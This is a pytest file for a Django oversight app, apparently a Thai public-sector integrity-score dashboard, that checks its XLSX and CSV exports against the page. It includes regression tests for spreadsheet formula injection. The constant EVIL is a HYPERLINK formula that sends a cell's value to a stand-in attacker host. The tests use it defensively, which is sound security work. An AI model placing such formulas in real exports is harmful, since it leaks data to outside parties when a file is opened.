"""The exports carry the same figures as the page, for the same filters."""

from __future__ import annotations

import csv
import io
import subprocess
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.oversight.pagetable import read_page

pytestmark = pytest.mark.django_db

# page column → export header (the header of the year columns is matched by its start)
COLUMNS = {
    "overall": "คะแนนรวม 2566",
    "level": "ระดับ",
    "IIT": "IIT",
    "EIT": "EIT",
    "OIT": "OIT",
    "change": "เปลี่ยนแปลง",
    "area_rank": "อันดับในพื้นที่",
    "plan": "มาตรการ 2567",
    "findings": "ข้อค้นพบจากการตรวจ",
    "half": "รายงานรอบ 6 เดือน",
    "annual": "รายงานประจำปี",
    "late": "มาตรการล่าช้า",
}


def _same(page: str, exported: Any) -> bool:
    if exported is None or exported == "":
        return page in ("", "—")
    if isinstance(exported, float | int) or page.lstrip("+-").replace(".", "").isdigit():
        try:
            return Decimal(page.lstrip("+")) == Decimal(str(exported))
        except ArithmeticError:
            return False
    return page == str(exported)


def _compare(page_rows: dict[str, dict[str, str]], table: list[list[Any]]) -> None:
    header, body = table[0], table[1:]
    index = {name: header.index(name) for name in ["รหัสหน่วยงาน", *COLUMNS.values()]}
    assert [str(r[index["รหัสหน่วยงาน"]]) for r in body] == list(page_rows)  # same rows, order
    for r in body:
        page = page_rows[str(r[index["รหัสหน่วยงาน"]])]
        for col, head in COLUMNS.items():
            assert _same(page[col], r[index[head]]), (col, page[col], r[index[head]])


@pytest.mark.parametrize("query", ["", "sort=-overall", "state=late&type=sao", "sort=half"])
def test_the_xlsx_and_csv_exports_have_the_figures_of_the_page(area: Any, query: str) -> None:
    c = area.client("province")
    html = c.get(f"/oversight/province/71/?{query}").content.decode()
    rows, stats = read_page(html)
    assert rows
    xlsx = c.get(f"/oversight/province/71/export.xlsx?{query}")
    assert xlsx["Content-Disposition"].startswith("attachment;")
    wb = load_workbook(io.BytesIO(xlsx.content))
    _compare(rows, [list(r) for r in wb["หน่วยงาน"].iter_rows(values_only=True)])
    summary = {r[0]: r[1] for r in wb["สรุป"].iter_rows(values_only=True) if r and r[0]}
    assert f"{summary['คะแนนเฉลี่ย']:.2f}" == stats["mean"]
    assert str(summary["จำนวนหน่วยงาน"]) == stats["agencies"]
    response = c.get(f"/oversight/province/71/export.csv?{query}")
    text = response.content.decode("utf-8-sig")
    _compare(rows, list(csv.reader(io.StringIO(text))))


def test_an_export_is_limited_to_the_overseers_area(area: Any) -> None:
    c = area.client("district")
    text = c.get("/oversight/district/7101/export.csv").content.decode("utf-8-sig")
    body = list(csv.reader(io.StringIO(text)))[1:]
    assert {r[0] for r in body} == {
        a.code for a in area.agencies if a.district_id == area.districts[0].pk
    }
    assert c.get("/oversight/province/71/export.csv").status_code == 404


EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"คลิก")'


def _as_libreoffice_shows(path: Any) -> dict[str, list[list[str]]]:
    """Every sheet of an XLSX as LibreOffice Calc shows it, through its CSV export (UTF-8)."""
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{path.parent}/profile", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(path.parent), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return {
        csv_file.stem.removeprefix(path.stem + "-"): list(
            csv.reader(io.StringIO(csv_file.read_text("utf-8")))
        )
        for csv_file in path.parent.glob(f"{path.stem}-*.csv")
    }


def test_a_search_term_is_written_as_text_not_as_a_live_formula(area: Any, tmp_path: Any) -> None:
    # the search term went into the summary sheet as a formula: opening the export ran it
    from urllib.parse import quote

    c = area.client("province")
    xlsx = c.get(f"/oversight/province/71/export.xlsx?q={quote(EVIL)}")
    assert xlsx.status_code == 200
    summary = load_workbook(io.BytesIO(xlsx.content))["สรุป"]
    cell = next(r[1] for r in summary.iter_rows() if r[0].value == "ค้นหา")
    assert cell.value == EVIL and cell.data_type == "s"
    (tmp_path / "export.xlsx").write_bytes(xlsx.content)
    shown = _as_libreoffice_shows(tmp_path / "export.xlsx")["สรุป"]
    # the text itself, not the formula's result "คลิก"
    assert ["ค้นหา", EVIL] in [row[:2] for row in shown]


def test_every_export_keeps_formula_like_text_as_data(tmp_path: Any) -> None:
    from openpyxl import Workbook

    from prongsai.core.spreadsheets import csv_row, xlsx_append

    texts = [EVIL, "+66 2 123 4567", "- ข้อแรก", "@SUM(A1:A9)", "-1+2", "ปกติ"]
    wb = Workbook()
    ws = wb.active
    ws.title = "s"
    xlsx_append(ws, [*texts, 12.5])
    wb.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx")["s"]
    assert [c.value for c in back[1]] == [*texts, 12.5]
    assert [c.data_type for c in back[1]] == ["s"] * len(texts) + ["n"]
    assert _as_libreoffice_shows(tmp_path / "t.xlsx")["s"] == [[*texts, "12.5"]]
    # CSV has no types: there the usual apostrophe keeps a formula from running
    assert csv_row([EVIL, "- ข้อแรก", "ปกติ", None, 3]) == ["'" + EVIL, "'- ข้อแรก", "ปกติ", "", 3]


@pytest.mark.django_db(transaction=True)  # a province's stamp changes after commit
def test_an_export_is_built_once_per_data_version(monkeypatch: Any) -> None:
    from prongsai.oversight import sheets
    from prongsai.results.services import ResultInput, result_save
    from tests.oversight.conftest import YEAR, build_area

    area = build_area(per_district=1)
    built: list[int] = []
    real = sheets.export_csv
    monkeypatch.setattr(sheets, "export_csv", lambda view: built.append(1) or real(view))
    c = area.client("province")
    first = c.get("/oversight/province/71/export.csv").content
    assert c.get("/oversight/province/71/export.csv").content == first
    assert len(built) == 1
    assert c.get("/oversight/province/71/export.csv?sort=-overall").status_code == 200
    assert len(built) == 2  # other filters: another export
    result_save(
        area.agencies[0],
        ResultInput(year=YEAR, indicators=dict.fromkeys(range(1, 11), Decimal(100))),
    )
    again = c.get("/oversight/province/71/export.csv").content
    assert len(built) == 3 and again != first  # the data changed: built anew
